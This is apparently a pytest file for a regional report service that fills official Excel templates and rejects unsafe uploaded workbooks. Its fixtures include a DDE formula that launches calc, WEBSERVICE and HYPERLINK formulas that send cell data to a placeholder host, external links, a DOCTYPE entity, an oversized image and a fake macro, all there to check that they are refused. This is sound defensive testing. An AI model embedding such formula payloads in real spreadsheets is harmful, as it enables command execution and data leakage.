"""A report in the region's official blank: numbers in their cells, all else as it was; blanks that are no blanks are refused."""

import io
import re
from collections.abc import Callable
from datetime import date
from typing import Any
from xml.dom import minidom

import pytest
from python_calamine import CalamineWorkbook

from asu_contracts.core import OrganizationKind
from reporting.blanks.errors import BlankError
from reporting.blanks.filling import Blank
from reporting.engine.cells import Sheet

from ..factories import Region, Reporting
from .making import ANCHORS, EDITION, FORM, SHEET, changed, made, parts_of, rows_and_columns, sending

DAY = "2026-11-30"


async def supply(reporting: Reporting, content: bytes, anchors: Any = ANCHORS, **more: Any) -> Any:
    return await reporting.service.client.post(
        "/blanks", headers=reporting.headers(), **sending(content, anchors, **more)
    )


async def exported(reporting: Reporting, report: str, head: dict[str, str]) -> bytes:
    answer = await reporting.get(f"/reports/{report}/xlsx", head)
    assert answer.status_code == 200, answer.text
    content: bytes = answer.content
    return content


async def report_of(reporting: Reporting, region: Region) -> tuple[str, dict[str, str], dict[str, dict[str, Any]]]:
    organization = region.organization(OrganizationKind.PRESCHOOL, name="=Сад & Ко")
    child, group = region.id(), region.group(organization)
    await reporting.tell(
        organization,
        group,
        region.statistics(date(2022, 5, 5), of=child, instruction_language="русский"),
        region.movement(child, date(2026, 9, 1), opened=region.stay(group)),
    )
    head = reporting.head_of(organization.organization_id)
    report = await reporting.build(head, form=FORM, organization_id=str(organization.organization_id), as_of=DAY)
    return report, head, await reporting.section(report, "7", head)


def page_of(content: bytes, name: str = SHEET) -> list[list[Any]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    rows: list[list[Any]] = book.get_sheet_by_name(name).to_python(skip_empty_area=False)
    return rows


async def test_numbers_stand_in_the_blank_and_the_rest_is_as_it_was(reporting: Reporting, region: Region) -> None:
    report, head, cells = await report_of(reporting, region)
    own = await exported(reporting, report, head)
    blank = made()
    supplied = await supply(reporting, blank)
    assert (supplied.status_code, supplied.json()["version"]) == (201, 1), supplied.text
    content = await exported(reporting, report, head)
    codes, columns = rows_and_columns()
    page = page_of(content)
    lines = {code: 5 + (place + 1 if place else 0) for place, code in enumerate(codes)}
    ranks = {code: 2 + place + (1 if place > 1 else 0) for place, code in enumerate(columns)}
    assert {row: {column: page[lines[row]][ranks[column]] for column in columns} for row in codes} == {
        row: {column: "" if value is None else value for column, value in one.items()} for row, one in cells.items()
    }
    assert any(value for one in cells.values() for value in one.values())
    before, after = parts_of(blank), parts_of(content)
    touched = {"xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"}
    sheets = {name for name in before if name.startswith("xl/worksheets/")}
    assert {name for name in before if before[name] != after[name]} <= touched | sheets
    was, now = (minidom.parseString(one["xl/worksheets/sheet2.xml"]) for one in (before, after))
    for tag in ("mergeCell", "cols", "conditionalFormatting", "f"):
        assert [one.toxml() for one in now.getElementsByTagName(tag)] == [
            one.toxml() for one in was.getElementsByTagName(tag)
        ]
    styles = [
        {one.getAttribute("r"): one.getAttribute("s") for one in book.getElementsByTagName("c")} for book in (was, now)
    ]
    assert styles[0] == styles[1]
    assert b"777" not in after["xl/worksheets/sheet2.xml"], "what the formula gave for the empty blank is no result"
    assert b'fullCalcOnLoad="1"' in after["xl/workbook.xml"]
    for path in sheets:
        text = after[path].decode()
        assert "не для сдачи: на дату 30.11.2026" in text
        assert all(part in text for part in ("черновая разметка", "Подсистема: АИС СГО", "Исполнитель", "Дата печати"))
        assert "чужая строка" not in text
    about = [row[0] for row in page_of(content, "Сведения")]
    assert about[:2] == ["черновая разметка", "не для сдачи: на дату 30.11.2026, форма сдаётся на 31.12.2026"]
    assert "=Сад & Ко, на 30.11.2026" in about
    at = about.index("Раздел 9. Язык обучения и воспитания")
    assert "901" in about[at + 1]
    assert "русский" in about[at + 1]
    assert "графа 3: 1" in about[at + 1]
    assert not any(b"<f>" in part and b"HYPERLINK" in part for part in after.values())

    (filled, plain) = (await reporting.get("/outward-exchanges")).json()["items"]
    for one in (filled, plain):
        replay = await reporting.service.client.post(f"/outward-exchanges/{one['id']}/replay", headers=head)
        assert replay.json()["equal"] is True
    withdrawn = await reporting.service.client.post(
        f"/blanks/{supplied.json()['id']}/withdrawal", headers=reporting.headers()
    )
    assert withdrawn.status_code == 200
    assert parts_of(await exported(reporting, report, head)).keys() == parts_of(own).keys()


async def test_what_was_filled_once_can_be_a_blank_again(reporting: Reporting, region: Region) -> None:
    report, head, _ = await report_of(reporting, region)
    for _ in range(2):
        assert (await supply(reporting, made())).status_code == 201
        filled = await exported(reporting, report, head)
        assert (await supply(reporting, filled)).status_code == 201
        again = parts_of(await exported(reporting, report, head))["xl/_rels/workbook.xml.rels"].decode()
        ids = re.findall(r' Id="([^"]+)"', again)
        assert len(set(ids)) == len(ids)


def test_rows_that_repeat_have_no_place_in_a_blank() -> None:
    layout = {"7": Sheet(("01",), ("3",), {"01": (("010", "020"),)})}
    with pytest.raises(BlankError) as refused:
        Blank(made(), ANCHORS, layout)
    assert "не повторяются по ключам" in str(refused.value.detail)


async def test_versions_follow_each_other(reporting: Reporting) -> None:
    blank = made()
    first, second = [(await supply(reporting, one)).json() for one in (blank, made(formula="=SUM(C6:C9)"))]
    assert [one["version"] for one in (first, second)] == [1, 2]
    listed = (await reporting.get("/blanks", None, form=FORM)).json()["items"]
    assert [(one["id"], one["edition"], one["anchors"]) for one in listed] == [
        (one["id"], EDITION, ANCHORS) for one in (second, first)
    ]
    file = await reporting.get(f"/blanks/{first['id']}/file")
    assert file.content == blank
    path = f"/blanks/{second['id']}/withdrawal"
    answers = [await reporting.service.client.post(path, headers=reporting.headers()) for _ in range(2)]
    assert [one.status_code for one in answers] == [200, 409]


def _bomb(parts: dict[str, bytes]) -> None:
    parts["xl/media/image1.png"] = bytes(80 * 1024 * 1024)


def _typed(parts: dict[str, bytes]) -> None:
    sheet = parts["xl/worksheets/sheet2.xml"]
    parts["xl/worksheets/sheet2.xml"] = sheet.replace(b"<worksheet", b'<!DOCTYPE a [<!ENTITY b "c">]><worksheet', 1)


def _linked(parts: dict[str, bytes]) -> None:
    relations = parts["xl/_rels/workbook.xml.rels"]
    link = b'<Relationship Id="x" Type="http://x/externalLinkPath" Target="http://x" TargetMode="External"/></Relationships>'
    parts["xl/_rels/workbook.xml.rels"] = relations.replace(b"</Relationships>", link)


def _without_sheets(parts: dict[str, bytes]) -> None:
    parts["xl/workbook.xml"] = re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", parts["xl/workbook.xml"])


def _cut_short(parts: dict[str, bytes]) -> None:
    parts["xl/worksheets/sheet2.xml"] = parts["xl/worksheets/sheet2.xml"][:-20]


def _deep(parts: dict[str, bytes]) -> None:
    sheet = parts["xl/worksheets/sheet1.xml"]
    deep = b"<extLst>" + b"<a>" * 3000 + b"</a>" * 3000 + b"</extLst></worksheet>"
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"</worksheet>", deep)


def _unnumbered(parts: dict[str, bytes]) -> None:
    parts["xl/workbook.xml"] = re.sub(rb'sheetId="[0-9]+"', b'sheetId=""', parts["xl/workbook.xml"])


def _named(parts: dict[str, bytes]) -> None:
    name = b"</sheets><definedNames><definedName name='x'>WEBSERVICE(\"http://x?\"&amp;C6)</definedName></definedNames>"
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"</sheets>", name)


def _heavy(parts: dict[str, bytes]) -> None:
    for number in (1, 2):
        path = f"xl/worksheets/sheet{number}.xml"
        parts[path] = parts[path].replace(b"</worksheet>", b"<extLst>" + b" " * 3_500_000 + b"</extLst></worksheet>")


def _macro(parts: dict[str, bytes]) -> None:
    parts["xl/vbaProject.bin"] = b"macro"


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (_macro, "макросов"),
        (_bomb, "слишком велика"),
        (_typed, "повреждена"),
        (_linked, "связей с другими файлами"),
        (_without_sheets, "нет листа"),
        (_named, "другим файлам"),
        (_heavy, "слишком велика"),
        (_cut_short, "повреждена"),
        (_deep, "повреждена"),
        (_unnumbered, "заполнить её не удалось"),
    ],
)
async def test_workbooks_that_could_hurt_are_refused(
    reporting: Reporting, change: Callable[[dict[str, bytes]], None], words: str
) -> None:
    answer = await supply(reporting, changed(made(), change))
    assert (answer.status_code, answer.json()["code"]) == (422, "blank.unfit"), answer.text
    assert words in answer.json()["detail"]


async def test_a_blank_must_have_a_place_for_every_cell(reporting: Reporting) -> None:
    blank = made()
    for content, anchors, words in (
        (b"no workbook", ANCHORS, "повреждена"),
        (changed(blank, lambda parts: parts.pop("xl/workbook.xml")), ANCHORS, "не книга Excel"),
        (blank, ANCHORS | {"7": "Лист9!C6"}, "нет листа «Лист9»"),
        (blank, ANCHORS | {"7": f"'{SHEET}'!ZZZ1"}, "нет ни на одном листе"),
        (blank, ANCHORS | {"7": f"'{SHEET}'!C600"}, "не помещается"),
        (blank, ANCHORS | {"7": f"'{SHEET}'!C7"}, "внутри объединённых"),
        (made(rows=2), ANCHORS, "не помещается"),
        (blank, {"8": "Титул!A1"}, "каждого раздела"),
        (blank, ANCHORS | {"9": "Титул!A1"}, "не повторяются по ключам"),
        (blank, {"7": "C6"}, "записываются"),
        (blank, None, "Укажите место"),
        (made(formula="=[1]Лист1!A1"), ANCHORS, "другим файлам"),
        (made(formula="=cmd|'/c calc'!A1"), ANCHORS, "другим файлам"),
        (made(formula='=HYPERLINK("http://x?"&C6)'), ANCHORS, "другим файлам"),
    ):
        answer = await supply(reporting, content, anchors)
        assert (answer.status_code, answer.json()["code"]) == (422, "blank.unfit"), (words, answer.text)
        assert words in answer.json()["detail"]
    unknown = await supply(reporting, blank, edition="1999")
    assert (unknown.status_code, unknown.json()["code"]) == (422, "blank.edition-unknown")
    huge = await supply(reporting, b"PK\x03\x04" + bytes(4 * 1024 * 1024))
    assert (huge.status_code, huge.json()["code"]) == (413, "blank.too-large")
    assert (await reporting.get("/blanks")).json()["items"] == []
